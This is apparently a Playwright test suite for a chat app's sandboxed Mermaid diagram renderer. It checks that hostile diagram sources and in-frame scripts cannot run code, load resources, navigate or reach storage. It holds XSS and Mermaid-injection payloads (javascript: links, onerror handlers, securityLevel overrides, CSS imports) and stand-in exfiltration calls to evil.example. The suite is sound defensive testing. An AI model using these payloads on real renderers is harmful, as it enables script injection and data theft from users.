/** Diagrams of replies: drawn in a frame that can reach neither the page nor the network (docs/safety.md 47). */
import type { FrameLocator, Page } from 'playwright/test';
import { expect, expectAccessible, send, test } from './fixtures.ts';

const FLOW = 'flowchart TD\n  A[Start] --> B{Ready?}\n  B -->|yes| C[Go]\n  B -->|no| A';

/** Sources that try to run, load, or lead somewhere. */
const ATTACKS = [
  'flowchart TD\n  A[Node]\n  click A href "javascript:parent.canary=1"\n  click A call canary()',
  'flowchart TD\n  A[Node]\n  click A href "https://evil.example/?secret" _top',
  'flowchart TD\n  A[Node]\n  click A href "/account" _self',
  'flowchart TD\n  A["<script>parent.canary = 1</script>Node"]',
  'flowchart TD\n  A["<img src=https://evil.example/p.png onerror=parent.canary=1>Node"]',
  'flowchart TD\n  A["<a href=https://evil.example target=_blank>Node</a>"]',
  'flowchart TD\n  A["<iframe srcdoc=\'<script>top.canary=1</script>\'></iframe>Node"]',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%\nflowchart TD\n  A["<img src=x onerror=parent.canary=1>Node"]\n  click A href "javascript:parent.canary=1"',
  '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  secure: []\n---\nflowchart TD\n  A["<img src=x onerror=parent.canary=1>Node"]\n  click A href "https://evil.example" _top',
  '%%{init: {"themeCSS": "@import url(https://evil.example/x.css); * { background: url(https://evil.example/p.png) }", "fontFamily": "x; } * { background: url(https://evil.example/p.png) }"}}%%\nflowchart TD\n  A[Node]',
  'flowchart TD\n  A[Node]\n  style A fill:url(https://evil.example/p.svg#a),background:url(https://evil.example/p.png)',
  'flowchart TD\n  A@{ img: "https://evil.example/pixel.png", label: "Node", w: 60, h: 60 }',
  'sequenceDiagram\n  participant A as Node\n  link A: Board @ https://evil.example\n  link A: Script @ javascript:parent.canary=1\n  A->>A: Node',
  'gantt\n  dateFormat YYYY-MM-DD\n  section S\n  Node :a, 2026-01-01, 3d\n  click a href "javascript:parent.canary=1"',
  'classDiagram\n  class Node\n  link Node "https://evil.example" "tip" _top\n  click Node call canary()',
];

/** Code that clicks on each text of the diagram, and returns the parts that could run, load or link somewhere. */
const LOOK = `(() => {
  const all = [...document.querySelectorAll('#diagram *')];
  for (const element of all.filter((e) => e.children.length === 0 && e.textContent !== ''))
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  return {
    elements: all.map((e) => e.localName).filter((name) => /^(script|iframe|img|object|embed|form|link)$/.test(name)),
    handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on')),
    addresses: all.flatMap((e) => [e.getAttribute('href'), e.getAttribute('xlink:href'), e.getAttribute('src')])
      .filter((value) => value !== null && !value.startsWith('#')),
    canary: 'canary' in globalThis,
  };
})()`;

/** Attempts of a script in the frame. Each must end in a refusal. */
const ATTEMPTS = `(async () => {
  const attempts = {
    cookie: () => document.cookie,
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    indexedDB: () => new Promise((resolve, reject) => {
      const request = indexedDB.open('x');
      request.onsuccess = resolve;
      request.onerror = () => reject(request.error);
    }),
    page: () => parent.document.title,
    pageStorage: () => parent.sessionStorage.length,
    navigation: () => { parent.location.href = '/account'; },
    popup: () => { if (open('https://evil.example') === null) throw new Error('no window'); },
    api: () => fetch('/config.json'),
    foreign: () => fetch('https://evil.example/?secret'),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://evil.example');
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    image: () => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = reject;
      image.src = '/logo.svg';
    }),
    inlineScript: () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ranInline = true';
      document.head.append(script);
      if (!globalThis.ranInline) throw new Error('not run');
    },
    frame: () => {
      const frame = document.createElement('iframe');
      frame.src = '/';
      return new Promise((resolve, reject) => {
        addEventListener('securitypolicyviolation', reject, { once: true });
        frame.onload = resolve;
        document.body.append(frame);
      });
    },
  };
  const allowed = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      allowed.push(name);
    } catch {}
  }
  return { origin, allowed };
})()`;

/** Keeps the 20 seconds for a drawing from passing until the test calls `endLimit`. */
const HOLD_LIMIT = `{
  const { setTimeout } = window;
  window.setTimeout = (run, ms) => (ms === 20_000 ? void (window.endLimit = run) : setTimeout(run, ms));
}`;

const fence = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\`\n\n`;
const last = (page: Page) => page.getByRole('log').getByRole('article').last();
const show = (page: Page) => last(page).getByRole('button', { name: 'Show diagram' });
const frame = (page: Page) => last(page).getByTitle('Diagram', { exact: true });
const inside = (page: Page): FrameLocator => frame(page).contentFrame();
const diagram = (page: Page) => inside(page).locator('#diagram > svg');

test('a diagram is drawn in a frame of its own, its source comes back, and a mistake is shown with its line', async ({
  chat,
  stack,
}) => {
  stack.replyWith(fence(FLOW));
  await send(chat, 'A diagram, please');
  await expect(show(chat)).toBeVisible();
  expect(chat.frames()).toHaveLength(1);
  await show(chat).click();
  await expect(diagram(chat).getByText('Ready?')).toBeVisible();
  const [outer, inner] = await Promise.all([frame(chat).boundingBox(), diagram(chat).boundingBox()]);
  expect(outer?.height).toBeGreaterThan(inner?.height ?? Infinity);
  expect(outer?.height).toBeLessThan((inner?.height ?? 0) + 40);
  await expectAccessible(chat);
  const fill = () => diagram(chat).evaluate("getComputedStyle(document.querySelector('.node rect')).fill");
  expect(await fill()).toBe('rgb(224, 240, 237)');
  await chat.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(fill).toBe('rgb(29, 55, 51)');
  await expectAccessible(chat);
  await last(chat).getByRole('button', { name: 'Show source' }).click();
  await expect(frame(chat)).toHaveCount(0);
  await expect(last(chat).getByText('A[Start] --> B{Ready?}')).toBeVisible();
  // The frame gives Mermaid's own words about a mistake.
  stack.replyWith(`${fence('flowchart TD\n  A[Start --> B')}That is all.`);
  await send(chat, 'Another diagram, please');
  await expect(last(chat).getByText('That is all.')).toBeVisible();
  await show(chat).click();
  await expect(last(chat).getByRole('alert')).toHaveText(
    /^The diagram could not be drawn: Parse error on line \d\.$/,
  );
});

test('a hostile diagram runs nothing, loads nothing and leads nowhere', async ({
  chat,
  stack,
  context,
  expectedErrors,
}) => {
  test.setTimeout(120_000);
  // The CSP blocks what Mermaid would run and load while it draws. Chromium reports a blocked request too, but only a
  // request that passes the CSP reaches the route.
  expectedErrors.push(/inline event handler|Content Security Policy directive: "(default|img)-src 'none'"/);
  expectedErrors.push(/^left the machine: evil\.example$/);
  const sent: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    sent.push(route.request().url());
    return route.abort();
  });
  const opened: string[] = [];
  context.on('page', (page) => opened.push(page.url()));
  chat.on('dialog', (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  const url = chat.url();
  for (const [i, attack] of ATTACKS.entries()) {
    stack.replyWith(`${fence(attack)}End of ${i}.`);
    await send(chat, `Attack ${i}`);
    await expect(chat.getByText(`End of ${i}.`)).toBeVisible();
    await show(chat).click();
    const outcome = async () => (await last(chat).getByRole('alert').count()) + (await diagram(chat).count());
    await expect.poll(outcome, `diagram ${i}`).toBe(1);
    if ((await frame(chat).count()) === 0) continue;
    const found: object = await diagram(chat).evaluate(LOOK);
    expect({ i, ...found }).toEqual({ i, elements: [], handlers: [], addresses: [], canary: false });
    await expect(diagram(chat)).toBeVisible();
  }
  expect(await chat.evaluate("'canary' in globalThis")).toBe(false);
  expect([chat.url(), opened, sent]).toEqual([url, [], []]);
});

test('a script in the frame would reach neither the page, nor its storage, nor the network', async ({
  chat,
  stack,
  expectedErrors,
}) => {
  expectedErrors.push(
    /Content Security Policy|sandboxed|Unsafe attempt|Failed to (load|construct)|allow-popups/,
  );
  stack.replyWith(fence(FLOW));
  await send(chat, 'A diagram, please');
  await show(chat).click();
  await expect(diagram(chat)).toBeVisible();
  const url = chat.url();
  expect(await diagram(chat).evaluate(ATTEMPTS)).toEqual({ origin: 'null', allowed: [] });
  expect(chat.url()).toBe(url);
  // Other sites are kept out of the frame, and the frame that tried is removed.
  await diagram(chat).evaluate("location.href = 'https://evil.example/?secret'");
  await expect(frame(chat)).toHaveCount(0);
  await expect(last(chat).getByRole('alert')).toHaveText('The diagram could not be drawn.');
});

test('a diagram that hangs is removed, and the page stays usable meanwhile', async ({
  chat,
  stack,
  context,
}) => {
  await context.route('**/assets/diagram/*.js', (route) =>
    route.fulfill({
      body: "console.info('hangs'); for (;;);",
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
    }),
  );
  stack.replyWith(fence(FLOW));
  await send(chat, 'A diagram, please');
  await chat.evaluate(HOLD_LIMIT);
  const hangs = chat.waitForEvent('console', (message) => message.text() === 'hangs');
  await show(chat).click();
  await hangs;
  await expect(last(chat).getByText('Drawing the diagram...')).toBeVisible();
  await chat.evaluate('endLimit()');
  await expect(last(chat).getByRole('alert')).toHaveText('The diagram took too long to draw.');
  await expect(frame(chat)).toHaveCount(0);
});

test('the document of the frame has an opaque origin and no network, also when it is opened by its address', async ({
  page,
}) => {
  const response = await page.goto('/diagram.html');
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain(
    "default-src 'none'; script-src 'self'; style-src 'unsafe-inline'",
  );
  expect(headers['x-frame-options']).toBe('SAMEORIGIN');
  expect(await page.evaluate('origin')).toBe('null');
});
